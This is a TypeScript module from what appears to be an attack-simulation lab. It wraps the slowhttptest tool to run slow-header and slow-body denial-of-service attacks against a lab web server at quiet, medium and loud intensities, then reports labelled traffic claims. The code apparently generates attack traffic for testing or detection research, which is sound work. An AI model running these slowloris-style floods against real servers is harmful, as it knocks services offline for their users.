import { addressesOf } from '../addresses.ts';
import type { Attack, Intensity } from '../contracts.ts';

/** Headers that never end, or a body that never does: a byte now and then keeps each connection open. */
const plans: Readonly<Record<Intensity, readonly string[]>> = {
  quiet: ['-H', '-c', '12', '-r', '1', '-i', '9'],
  medium: ['-B', '-c', '100', '-r', '10', '-i', '5', '-s', '8192'],
  loud: ['-H', '-c', '500', '-r', '100', '-i', '3'],
};
const webPort = 80;
/** The tool closes what is open, and says what it saw. */
const endingSeconds = 4;

export const slowHttp: Attack = {
  kind: 'slow-http',
  summary: 'connections to a web server kept open by almost nothing',
  needs: ['slowhttptest'],
  intensities: ['quiet', 'medium', 'loud'],
  actor: 'attacker',
  targets: ['server'],
  async run({ intensity, actor, targets, seconds, signal, lab }) {
    const addresses = addressesOf(targets.slice(0, 1));
    const length = String(Math.max(5, Math.floor(seconds) - endingSeconds));
    const words = [...plans[intensity], '-l', length, '-u', `http://${addresses[0] ?? ''}/`];
    const { output } = await actor.machine.attempt('slowhttptest', words, { seconds, signal });
    const complaint = /^.*(?:refused|unable|cannot).*$/im.exec(output)?.[0];
    if (complaint !== undefined) lab.log(`slowhttptest: ${complaint}`);
    return {
      tool: 'slowhttptest',
      arguments: words.join(' '),
      claims: [{ actors: [actor.address], targets: addresses, protocol: 'tcp', targetPorts: [webPort] }],
    };
  },
};
